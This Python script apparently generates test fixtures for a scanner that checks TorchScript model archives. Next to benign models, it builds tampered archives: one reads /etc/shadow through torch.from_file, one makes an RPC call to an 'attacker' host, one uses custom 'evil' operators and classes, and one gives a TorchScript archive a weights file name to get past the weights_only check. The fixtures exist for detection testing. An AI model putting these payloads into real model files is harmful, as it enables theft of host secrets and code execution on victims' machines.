#!/usr/bin/python3
"""TorchScript fixtures for pickle-code's TorchScript check: archives
written by torch.jit.save (scripted and traced), and copies whose code/
sources were edited the way an attacker would (TorchScript compiles
whatever source the archive holds): aten::from_file reading a host file,
an RPC call, a custom operator namespace, a custom C++ class, and a
TorchScript archive named as a weights file (the torch.load
weights_only bypass, CVE-2025-32434).

usage: gen_torchscript.py OUT"""
import io
import os
import sys
import zipfile

import torch

from fixture_util import Manifest

torch.set_num_threads(1)
SCOPE = "pickle-code.torchscript."


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x):
        return torch.relu(self.fc(x)).sum(dim=1)


def scripted():
    b = io.BytesIO()
    torch.jit.save(torch.jit.script(Net()), b)
    return b.getvalue()


def traced():
    b = io.BytesIO()
    torch.jit.save(torch.jit.trace(Net().eval(), torch.zeros(1, 4)), b)
    return b.getvalue()


def edit(archive, old, new):
    """Copies the zip, replacing old by new in the top-level code source."""
    src = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("code/__torch__.py"):
                assert old.encode() in data, data
                data = data.replace(old.encode(), new.encode())
            z.writestr(info, data)
    return out.getvalue()


def main():
    m = Manifest(sys.argv[1], "pickle-code", SCOPE)
    good = scripted()
    m.add("benign", "scripted.pt", good, why="torch.jit.script + torch.jit.save")
    m.add("benign", "traced.pt", traced(), why="torch.jit.trace + torch.jit.save")
    b = io.BytesIO()
    torch.save(Net().state_dict(), b)
    m.add("benign", "state_dict.pt", b.getvalue(), why="a plain torch.save state dict")

    anchor = "_0 = torch.sum("
    m.add("malicious", "from-file.pt",
          edit(good, anchor, "_9 = torch.from_file(\"/etc/shadow\", False, 4096)\n    " + anchor),
          ["torchscript.denied-call"], "aten::from_file of a host file")
    m.add("malicious", "rpc.pt",
          edit(good, anchor, "_9 = torch.distributed.rpc.rpc_sync(\"attacker\", torch.add, "
                             "(x, x))\n    " + anchor),
          ["torchscript.denied-call"], "an RPC call to another host")
    m.add("malicious", "custom-op.pt",
          edit(good, anchor, "_9 = ops.evil_ns.run(x)\n    " + anchor),
          ["torchscript.custom-operator"], "operator of a custom namespace")
    m.add("malicious", "custom-class.pt",
          edit(good, anchor, "_9 = torch.classes.evil.Shell()\n    " + anchor),
          ["torchscript.review-call"], "custom C++ class")
    m.add("malicious", "pytorch_model.bin", good, ["torchscript.weights-only-bypass"],
          "a TorchScript archive named as weights (CVE-2025-32434)")

    # Malformed archives are the zip walker's (tests/plugins/pickle-code):
    # a TorchScript archive is only recognised once its directory reads.
    m.write()


if __name__ == "__main__":
    main()
